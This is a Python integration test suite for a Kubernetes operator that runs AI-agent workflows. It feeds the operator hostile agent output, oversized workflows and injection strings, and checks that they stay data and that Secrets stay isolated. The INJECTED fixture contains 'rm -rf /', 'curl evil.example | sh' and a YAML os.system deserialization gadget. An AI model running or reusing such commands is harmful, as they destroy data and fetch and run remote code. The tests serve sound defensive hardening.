"""Hostile input against the real API server and the running operator.

- Generated documents (the strategies of ``tests/support/generated.py``) get the same
  verdict from the API server (server-side dry-run) as from the local copy of the CRD schema.
- Schema-valid Workflows the core rejects fail with a message naming the field, and the
  operator keeps running others.
- Agents that print nothing, 10 MiB, binary, broken Markdown or JSON, or lie in their
  termination message: each step ends with a clear result or a clear failure, and the
  Workflow object stays small.
- Template syntax, shell and YAML in prompts and results stay data: the Job is what the agent
  template says, and a step never sees another agent's Secret.
- Size limits: a Workflow near every maximum is accepted and runs; one past a limit is rejected
  by the API server with the limit in the message.
"""

from __future__ import annotations

import json
import textwrap
from collections.abc import Callable
from typing import Any, TypeVar

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from agentflow.api.models import (
    MAX_AGENTS,
    MAX_DEPENDS_ON,
    MAX_PROMPT_LENGTH,
    MAX_STEPS,
    Workflow,
)
from agentflow.children import WorkflowRef, build_step_job
from agentflow.engine import resolve_agent
from agentflow.engine.types import CreateJob
from tests.integration.conftest import OperatorProcess
from tests.integration.workflows import (
    Kubectl,
    apply,
    get,
    job_env,
    script_agent,
    step,
    step_jobs,
    wait_finished,
    workflow,
)
from tests.support.crd_schema import crd_errors
from tests.support.generated import judge_workflow, mutations, workflow_specs

pytestmark = pytest.mark.integration

T = TypeVar("T")
# Whatever its agents print, a finished Workflow stays this small.
SMALL_WORKFLOW_BYTES = 100 * 1024
# etcd's default request limit: a stored object must be smaller.
ETCD_LIMIT_BYTES = 1_572_864


def sample(strategy: st.SearchStrategy[T], wanted: int, keep: Callable[[T], bool]) -> list[T]:
    """``wanted`` values of ``strategy`` that ``keep`` accepts, the same ones on every run."""
    found: list[T] = []

    @settings(
        max_examples=wanted * 50,
        derandomize=True,
        database=None,
        deadline=None,
        suppress_health_check=list(HealthCheck),
    )
    @given(strategy)
    def collect(value: T) -> None:
        if len(found) < wanted and keep(value):
            found.append(value)

    collect()
    assert len(found) == wanted, f"only {len(found)} of {wanted} examples found"
    return found


@st.composite
def generated_workflows(draw: st.DrawFn) -> dict[str, Any]:
    _, spec = draw(mutations(draw(workflow_specs())))
    return {
        "apiVersion": "agentflow.dev/v1alpha1",
        "kind": "Workflow",
        "metadata": {"name": "generated"},
        "spec": spec,
    }


def command_agent(name: str, code: str, **fields: Any) -> dict[str, Any]:
    """An agent-runner agent whose report is what ``python3 -c code`` prints."""
    argv = json.dumps(["python3", "-c", textwrap.dedent(code)])
    return {
        "name": name,
        "provider": "command",
        "env": [{"name": "AGENTFLOW_COMMAND", "value": argv}],
        **fields,
    }


def bare_python_agent(name: str, code: str) -> dict[str, Any]:
    """No agent runner: the container is ``python3 -c code`` and writes its own message."""
    return {"name": name, "image": "python:3.12", "command": ["python3", "-c", code]}


# --------------------------------------------------------------------------------------------
# Generated documents: the API server agrees with the local schema; the operator keeps going
# --------------------------------------------------------------------------------------------


def test_the_api_server_gives_generated_documents_the_local_schema_verdict(
    kubectl: Kubectl, namespace: str, operator: OperatorProcess
) -> None:
    accepted = sample(generated_workflows(), 8, lambda d: not crd_errors(d))
    rejected = sample(generated_workflows(), 12, lambda d: bool(crd_errors(d)))
    disagreements = []
    for doc in accepted + rejected:
        local = crd_errors(doc)
        result = kubectl(
            "apply", "--dry-run=server", "-n", namespace, "-f", "-", input=json.dumps(doc)
        )
        if (result.returncode == 0) != (not local):
            disagreements.append((local, result.stderr[:500], json.dumps(doc)[:500]))
        elif local:
            assert "spec" in result.stderr, result.stderr
    assert disagreements == []


def test_schema_valid_workflows_the_core_rejects_fail_clearly_and_others_still_run(
    kubectl: Kubectl, namespace: str, operator: OperatorProcess
) -> None:
    def core_rejects(doc: dict[str, Any]) -> bool:
        verdict = judge_workflow(doc)
        return not verdict.crd and verdict.workflow is not None and bool(verdict.core)

    batch = sample(generated_workflows(), 8, core_rejects)
    for i, doc in enumerate(batch):
        doc["metadata"]["name"] = f"bad-{i}"
    fine = workflow(
        "fine", [{"name": "only", "agent": "a", "prompt": "hello"}], [script_agent("a")]
    )
    apply(kubectl, namespace, [*batch, fine])

    for i, doc in enumerate(batch):
        wf = wait_finished(kubectl, namespace, f"bad-{i}")
        expected = judge_workflow(doc).core[0]
        assert wf["status"]["phase"] == "Failed", wf["status"]
        assert expected in wf["status"]["message"], (expected, wf["status"]["message"])
        assert step_jobs(kubectl, namespace, f"bad-{i}") == []
    good = wait_finished(kubectl, namespace, "fine")
    assert good["status"]["phase"] == "Succeeded", good["status"]
    assert operator.proc is not None and operator.proc.poll() is None


# --------------------------------------------------------------------------------------------
# Hostile agent output
# --------------------------------------------------------------------------------------------

TEN_MIB = 10 * 1024 * 1024
BINARY = """
import sys
sys.stdout.buffer.write(bytes(range(256)) * 64 + b"\\xff\\xfe\\x00\\xc3(## Summary\\n")
sys.stdout.buffer.write(b"after \\xed\\xa0\\x80 binary\\n")
"""
MALFORMED_MARKDOWN = (
    "## Summary\n## Summary\n```unclosed fence\n# ## ###\n- [ ]\n"
    "## Metrics\n- Tool calls: lots\n- Errors: -3\n- Files read: 1e400\n## Status\nmaybe\n"
)
# 4 KiB of every byte value, invalid UTF-8 included, as the termination message.
GARBAGE_MESSAGE = """
import os
with open(os.environ["AGENTFLOW_TERMINATION_MESSAGE_PATH"], "wb") as f:
    f.write(bytes(range(256)) * 16)
print("## Summary\\nfine\\n")
"""
MALFORMED_JSON = '{"summary": "half a document", "metrics": {"toolCalls": "NaN", '


def liar(message: str, stdout: str, exit_code: int = 0) -> str:
    """A container that writes ``message`` as its termination message and prints ``stdout``."""
    return textwrap.dedent(
        f"""
        import os, sys
        with open(os.environ["AGENTFLOW_TERMINATION_MESSAGE_PATH"], "w") as f:
            f.write({message!r})
        print({stdout!r})
        sys.exit({exit_code})
        """
    )


def test_hostile_agent_output_gives_each_step_a_clear_result(
    kubectl: Kubectl, namespace: str, operator: OperatorProcess
) -> None:
    cases = {
        "empty": command_agent("empty", "pass"),
        "huge": script_agent(
            "huge", report="## Summary\nten mebibytes follow\n", output_bytes=TEN_MIB
        ),
        "binary": command_agent("binary", BINARY),
        "markdown": script_agent("markdown", report=MALFORMED_MARKDOWN),
        "json": script_agent("json", report=MALFORMED_JSON),
        "size-lie": bare_python_agent(
            "size-lie",
            liar(
                '{"v":1,"truncated":false,"size":99999999,"summary":"claims to be whole"}',
                "## Summary\nthe real report, from the log\n",
            ),
        ),
        "negative-size": bare_python_agent(
            "negative-size",
            liar('{"v":1,"truncated":false,"size":-1,"summary":"negative"}', "## Summary\nok\n"),
        ),
        "garbage-message": bare_python_agent("garbage-message", GARBAGE_MESSAGE),
    }
    steps = [{"name": name, "agent": name, "prompt": f"case {name}"} for name in cases]
    apply(
        kubectl, namespace, [workflow("outputs", steps, list(cases.values()), strategy="Parallel")]
    )
    wf = wait_finished(kubectl, namespace, "outputs", timeout=240)
    assert wf["status"]["phase"] == "Succeeded", wf["status"]
    assert len(json.dumps(wf).encode()) < SMALL_WORKFLOW_BYTES

    results = {name: step(wf, name)["result"] for name in cases}
    assert results["empty"]["summary"] == "" and results["empty"]["status"] == "success"
    huge = results["huge"]
    assert huge["summary"] == "ten mebibytes follow" and huge["truncated"] is True
    output = get(kubectl, namespace, "configmap", huge["outputRef"])
    assert output is not None
    stored = output["data"]["report"]
    assert stored.startswith("## Summary\nten mebibytes follow")
    assert len(stored.encode()) <= 1024 * 1024  # the operator reads at most ~900 KiB
    binary = results["binary"]
    assert binary["status"] == "success" and binary["summary"].startswith('!"#$%&')
    assert all(c.isprintable() or c in "\n\t" for c in binary["summary"]), binary["summary"]
    markdown = results["markdown"]
    assert markdown["status"] == "success"  # "maybe" is no status word: the exit code decides
    assert "toolCalls" not in markdown["metrics"] and "errors" not in markdown["metrics"]
    # Not JSON after all: the text is the summary.
    assert results["json"]["summary"].startswith('{"summary": "half a document"')
    # A message whose size cannot be true makes the operator fetch the full report.
    lie = results["size-lie"]
    assert lie["truncated"] is True and lie["outputRef"]
    log = get(kubectl, namespace, "configmap", lie["outputRef"])
    assert log is not None and "the real report, from the log" in log["data"]["report"]
    assert results["negative-size"]["truncated"] is True
    garbage = results["garbage-message"]
    assert garbage["truncated"] is True and garbage["outputRef"]
    log = get(kubectl, namespace, "configmap", garbage["outputRef"])
    assert log is not None and "fine" in log["data"]["report"]
    assert all(s["result"]["status"] == "success" for s in wf["status"]["steps"][:5])


def test_an_agent_that_claims_success_but_exits_non_zero_fails_clearly(
    kubectl: Kubectl, namespace: str, operator: OperatorProcess
) -> None:
    agent = bare_python_agent(
        "boaster",
        liar('{"v":1,"status":"success","summary":"all good, trust me"}', "fine", exit_code=3),
    )
    apply(kubectl, namespace, [workflow("boast", [{"name": "s", "agent": "boaster"}], [agent])])
    wf = wait_finished(kubectl, namespace, "boast")
    assert wf["status"]["phase"] == "Failed", wf["status"]
    failed = step(wf, "s")
    assert failed["phase"] == "Failed"
    assert failed["attempts"][0]["exitCode"] == 3
    assert "exit code 3" in failed["message"]
    assert "s failed" in wf["status"]["message"]


# --------------------------------------------------------------------------------------------
# Injection
# --------------------------------------------------------------------------------------------

INJECTED = (
    "## Summary\n"
    "{{ steps.produce.summary }} {{ workflow.name }} \\{{ escaped }} `id`; rm -rf / && "
    "curl evil.example | sh; key: !!python/object/apply:os.system ['id'] "
    "steps.produce.phase == 'x' || true; my prompt was [{prompt}]\n"
)
# Reports whether another agent's Secret is in its environment, and the prompt it was given.
SECRET_PROBE = """
import json, os
visible = "HOLDER_TOKEN" in os.environ
prompt = os.environ["AGENTFLOW_PROMPT"]
print(json.dumps({"summary": f"token visible: {visible}; prompt: {prompt}"}))
"""


def _container(job: dict[str, Any]) -> dict[str, Any]:
    containers: list[dict[str, Any]] = job["spec"]["template"]["spec"]["containers"]
    assert len(containers) == 1
    return containers[0]


def test_results_with_template_shell_and_yaml_syntax_stay_data(
    kubectl: Kubectl, namespace: str, operator: OperatorProcess
) -> None:
    secret = kubectl(
        "create", "secret", "generic", "holder-secret", "-n", namespace, "--from-literal=t=v"
    )
    assert secret.returncode == 0, secret.stderr
    doc = workflow(
        "inject",
        [
            {"name": "produce", "agent": "holder", "prompt": "$(HOLDER_TOKEN) {{ workflow.name }}"},
            {"name": "consume", "agent": "consumer", "prompt": "use: {{ steps.produce.summary }}"},
        ],
        [
            {
                **script_agent("holder", report=INJECTED),
                "env": [
                    {"name": "AGENTFLOW_SCRIPT_REPORT", "value": INJECTED},
                    {
                        "name": "HOLDER_TOKEN",
                        "valueFrom": {"secretKeyRef": {"name": "holder-secret", "key": "t"}},
                    },
                ],
            },
            command_agent("consumer", SECRET_PROBE),
        ],
    )
    apply(kubectl, namespace, [doc])
    wf = wait_finished(kubectl, namespace, "inject")
    assert wf["status"]["phase"] == "Succeeded", wf["status"]
    produced = step(wf, "produce")["result"]["summary"]
    assert "{{ steps.produce.summary }}" in produced and "rm -rf /" in produced
    # $(HOLDER_TOKEN) in a prompt is text: the kubelet does not expand it into the Secret.
    assert produced.endswith("my prompt was [$(HOLDER_TOKEN) inject]"), produced
    # The earlier result reached the next agent as it was: never rendered again, never run.
    consumed = step(wf, "consume")["result"]["summary"]
    assert consumed == f"token visible: False; prompt: use: {produced}"

    jobs = {
        j["metadata"]["labels"]["agentflow.dev/step"]: j
        for j in step_jobs(kubectl, namespace, "inject")
    }

    # Each Job is exactly what its agent template says (the builder's output for it).
    model = Workflow.model_validate({**doc, "metadata": {"name": "inject", "namespace": namespace}})
    for name, job in jobs.items():
        spec_step = next(s for s in model.spec.steps if s.name == name)
        action = CreateJob(
            job_name=job["metadata"]["name"],
            step=name,
            run=1,
            iteration=1,
            attempt=1,
            agent=resolve_agent(model.spec, spec_step),
            fallback=False,
            # The builder escapes `$` for the kubelet; undo that to get the rendered prompt.
            prompt=(job_env(job, "AGENTFLOW_PROMPT") or "").replace("$$", "$"),
            cache_key=None,
            timeout_seconds=None,
        )
        ref = WorkflowRef(name="inject", namespace=namespace, uid=wf["metadata"]["uid"])
        built = build_step_job(ref, action)
        expected_pod, actual_pod = (
            built["spec"]["template"]["spec"],
            job["spec"]["template"]["spec"],
        )
        expected, actual = _container(built), _container(job)
        for field in ("image", "command", "args", "securityContext", "volumeMounts"):
            assert actual.get(field) == expected.get(field), (name, field)
        assert [e["name"] for e in actual["env"]] == [e["name"] for e in expected["env"]]
        for field in ("automountServiceAccountToken", "securityContext", "volumes"):
            assert actual_pod.get(field) == expected_pod.get(field), (name, field)
        assert actual_pod.get("serviceAccountName") in (None, "default")
        assert not actual_pod.get("hostNetwork") and not actual_pod.get("initContainers")

    # Only the agent that declares the Secret gets it.
    def secret_refs(job: dict[str, Any]) -> list[str]:
        return [e["name"] for e in _container(job)["env"] if "valueFrom" in e]

    assert secret_refs(jobs["produce"]) == ["HOLDER_TOKEN"]
    assert secret_refs(jobs["consume"]) == []


# --------------------------------------------------------------------------------------------
# Size limits
# --------------------------------------------------------------------------------------------


def _padded(prefix: str, length: int) -> str:
    return (prefix + "-" + "x" * length)[:length]


def near_maximum(name: str, prompt_chars: int) -> dict[str, Any]:
    """MAX_STEPS steps with 40-character names, MAX_AGENTS agents, MAX_DEPENDS_ON fan-in, one
    maximal prompt; all but six steps are skipped by ``when`` so that a run stays short."""
    agents = [
        {
            "name": _padded(f"a{i}", 63),
            "provider": "script",
            "model": "m" * 128,
            "env": [{"name": f"FILL_{j}", "value": "v" * 500} for j in range(8)],
        }
        for i in range(MAX_AGENTS)
    ]
    names = [_padded(f"s{i}", 40) for i in range(MAX_STEPS)]
    steps: list[dict[str, Any]] = []
    for i, step_name in enumerate(names):
        steps.append(
            {
                "name": step_name,
                "agent": agents[i % MAX_AGENTS]["name"],
                "prompt": "p" * prompt_chars,
                "when": "false" if i >= 6 else "true",
            }
        )
    steps[0]["prompt"] = "q" * MAX_PROMPT_LENGTH
    steps[-1]["dependsOn"] = names[:MAX_DEPENDS_ON]
    return workflow(name, steps, agents, strategy="DAG")


def test_a_workflow_near_every_maximum_is_accepted_and_runs(
    kubectl: Kubectl, namespace: str, operator: OperatorProcess
) -> None:
    doc = near_maximum("biggest", prompt_chars=3_500)
    size = len(json.dumps(doc))
    assert 900_000 < size < ETCD_LIMIT_BYTES * 0.7, size
    # Client-side apply keeps a copy in an annotation limited to 256 KiB: large Workflows need
    # `kubectl create` or server-side apply, and kubectl says why.
    client_side = kubectl("apply", "-n", namespace, "-f", "-", input=json.dumps(doc))
    assert client_side.returncode != 0
    assert "metadata.annotations: Too long" in client_side.stderr
    created = kubectl("apply", "--server-side", "-n", namespace, "-f", "-", input=json.dumps(doc))
    assert created.returncode == 0, created.stderr

    wf = wait_finished(kubectl, namespace, "biggest", timeout=180)
    assert wf["status"]["phase"] == "Succeeded", wf["status"].get("message")
    phases = [s["phase"] for s in wf["status"]["steps"]]
    assert phases.count("Succeeded") == 6 and phases.count("Skipped") == MAX_STEPS - 6
    assert len(json.dumps(wf)) < ETCD_LIMIT_BYTES


@pytest.mark.parametrize(
    ("case", "message"),
    [
        ("steps", f"spec.steps: Too many: {MAX_STEPS + 1}: must have at most {MAX_STEPS} items"),
        ("prompt", f"spec.steps[0].prompt: Too long: may not be more than {MAX_PROMPT_LENGTH}"),
        ("agents", f"spec.agents: Too many: {MAX_AGENTS + 1}: must have at most {MAX_AGENTS}"),
        ("dependsOn", f"Too many: {MAX_DEPENDS_ON + 1}: must have at most {MAX_DEPENDS_ON}"),
        ("request", "Request entity too large: limit is 3145728"),
        ("object", "etcdserver: request is too large"),
    ],
)
def test_a_workflow_past_a_limit_is_rejected_naming_the_limit(
    kubectl: Kubectl, namespace: str, operator: OperatorProcess, case: str, message: str
) -> None:
    agents = [script_agent("a")]
    steps: list[dict[str, Any]] = [{"name": "s", "agent": "a"}]
    if case == "steps":
        steps = [{"name": f"s{i}", "agent": "a"} for i in range(MAX_STEPS + 1)]
    elif case == "prompt":
        steps[0]["prompt"] = "x" * (MAX_PROMPT_LENGTH + 1)
    elif case == "agents":
        agents = [script_agent(f"a{i}") for i in range(MAX_AGENTS)] + [script_agent("a")]
    elif case == "dependsOn":
        upstream = [f"u{i}" for i in range(MAX_DEPENDS_ON + 1)]
        steps = [{"name": u, "agent": "a"} for u in upstream]
        steps.append({"name": "s", "agent": "a", "dependsOn": upstream})
    elif case == "request":  # every prompt at its maximum: over the API server's 3 MiB
        steps = [
            {"name": f"s{i}", "agent": "a", "prompt": "x" * MAX_PROMPT_LENGTH}
            for i in range(MAX_STEPS)
        ]
    else:  # under 3 MiB but over etcd's 1.5 MiB
        steps = [{"name": f"s{i}", "agent": "a", "prompt": "x" * 8_000} for i in range(MAX_STEPS)]
    doc = workflow("too-big", steps, agents, strategy="DAG")
    result = kubectl("create", "-n", namespace, "-f", "-", input=json.dumps(doc))
    assert result.returncode != 0
    assert message in result.stderr, result.stderr
    assert get(kubectl, namespace, "workflows.agentflow.dev", "too-big") is None


# --------------------------------------------------------------------------------------------
# What the operator builds is bounded; what the API server refuses is settled, not retried
# --------------------------------------------------------------------------------------------

# A report naming 100 files with 1 KB paths; the termination message keeps as many as fit.
LONG_ARTIFACTS = """
print("## Summary\\nmany files\\n\\n## Files Created/Modified")
for i in range(100):
    print(f"- Created: src/{i:03d}/" + "p" * 1000)
"""
ARTIFACTS_REFERENCE = "{{ steps.files.artifacts }}"


def test_a_prompt_that_would_render_too_large_fails_its_step_and_others_still_run(
    kubectl: Kubectl, namespace: str, operator: OperatorProcess
) -> None:
    from agentflow.engine.templating import MAX_RENDERED_PROMPT_BYTES

    # 16 KiB of references to the artifacts: rendered, 606 copies of their paths.
    hostile_prompt = ARTIFACTS_REFERENCE * (MAX_PROMPT_LENGTH // len(ARTIFACTS_REFERENCE))
    hostile = workflow(
        "huge-prompt",
        [
            {"name": "files", "agent": "files", "prompt": "list them"},
            {"name": "echo", "agent": "echo", "prompt": hostile_prompt},
        ],
        [command_agent("files", LONG_ARTIFACTS), script_agent("echo")],
    )
    fine = workflow(
        "fine", [{"name": "only", "agent": "a", "prompt": "hello"}], [script_agent("a")]
    )
    apply(kubectl, namespace, [hostile, fine])

    wf = wait_finished(kubectl, namespace, "huge-prompt")
    assert wf["status"]["phase"] == "Failed", wf["status"]
    paths = [a["path"] for a in step(wf, "files")["result"]["artifacts"]]
    rendered_bytes = len(", ".join(paths).encode()) * (
        len(hostile_prompt) // len(ARTIFACTS_REFERENCE)
    )
    assert rendered_bytes > 10 * MAX_RENDERED_PROMPT_BYTES  # what it would have rendered to
    echo = step(wf, "echo")
    expected = (
        f"prompt: the rendered prompt of step echo is larger than {MAX_RENDERED_PROMPT_BYTES} "
        "bytes, the limit for a rendered prompt"
    )
    assert echo["phase"] == "Failed" and not echo.get("attempts"), echo
    assert echo["message"].startswith(expected), echo["message"]
    assert wf["status"]["message"].startswith(f"step echo failed: {expected}")
    labels = [
        j["metadata"]["labels"]["agentflow.dev/step"]
        for j in step_jobs(kubectl, namespace, "huge-prompt")
    ]
    assert labels == ["files"]
    assert len(json.dumps(wf).encode()) < SMALL_WORKFLOW_BYTES

    assert wait_finished(kubectl, namespace, "fine")["status"]["phase"] == "Succeeded"
    assert operator.proc is not None and operator.proc.poll() is None


def test_a_job_the_api_server_refuses_fails_its_attempts_with_its_message_and_others_run(
    kubectl: Kubectl, namespace: str, operator: OperatorProcess
) -> None:
    from tests.integration.workflows import events

    # The CRD schema checks each quantity; only the core API knows requests may not pass limits.
    greedy = {
        **script_agent("greedy"),
        "resources": {"requests": {"cpu": "2"}, "limits": {"cpu": "1"}},
    }
    refused = workflow(
        "refused",
        [
            {
                "name": "s",
                "agent": "greedy",
                "prompt": "go",
                "retries": {"limit": 1, "backoffSeconds": 1},
            }
        ],
        [greedy],
    )
    fine = workflow(
        "fine", [{"name": "only", "agent": "a", "prompt": "hello"}], [script_agent("a")]
    )
    apply(kubectl, namespace, [refused, fine])

    wf = wait_finished(kubectl, namespace, "refused")
    assert wf["status"]["phase"] == "Failed", wf["status"]
    failed = step(wf, "s")
    server = "must be less than or equal to cpu limit of 1"
    assert [a["reason"] for a in failed["attempts"]] == ["JobRefused", "JobRefused"]
    for attempt in failed["attempts"]:
        prefix = (
            f'JobRefused: the API server refused the Job: 422: Job.batch "{attempt["jobName"]}"'
        )
        assert attempt["message"].startswith(prefix), attempt["message"]
        assert server in attempt["message"], attempt["message"]
    assert server in wf["status"]["message"]
    assert step_jobs(kubectl, namespace, "refused") == []
    warnings = [
        e["message"] for e in events(kubectl, namespace, "refused") if e["reason"] == "JobRefused"
    ]
    assert warnings and all(server in m for m in warnings), warnings

    assert wait_finished(kubectl, namespace, "fine")["status"]["phase"] == "Succeeded"
    assert operator.proc is not None and operator.proc.poll() is None


# 1 MiB of bytes that are not UTF-8 after a summary: read back, each becomes U+FFFD (3 bytes).
INVALID_UTF8 = """
import sys
sys.stdout.write("## Summary\\nbinary follows\\n")
sys.stdout.flush()
sys.stdout.buffer.write(b"\\xff" * (1024 * 1024))
"""


def test_a_full_report_of_invalid_utf8_is_stored_within_a_configmaps_limit(
    kubectl: Kubectl, namespace: str, operator: OperatorProcess
) -> None:
    doc = workflow(
        "invalid-utf8",
        [{"name": "s", "agent": "bytes", "prompt": "go"}],
        [command_agent("bytes", INVALID_UTF8)],
    )
    apply(kubectl, namespace, [doc])
    wf = wait_finished(kubectl, namespace, "invalid-utf8")
    assert wf["status"]["phase"] == "Succeeded", wf["status"]
    result = step(wf, "s")["result"]
    assert result["summary"].startswith("binary follows\n\ufffd") and result["truncated"] is True
    output = get(kubectl, namespace, "configmap", result["outputRef"])
    assert output is not None
    stored = output["data"]["report"]
    assert stored.startswith("## Summary\nbinary follows\n\ufffd")
    # The operator reads at most 900 KiB of log; decoded, that would be 2.7 MB.
    assert 800 * 1024 < len(stored.encode()) <= 900 * 1024
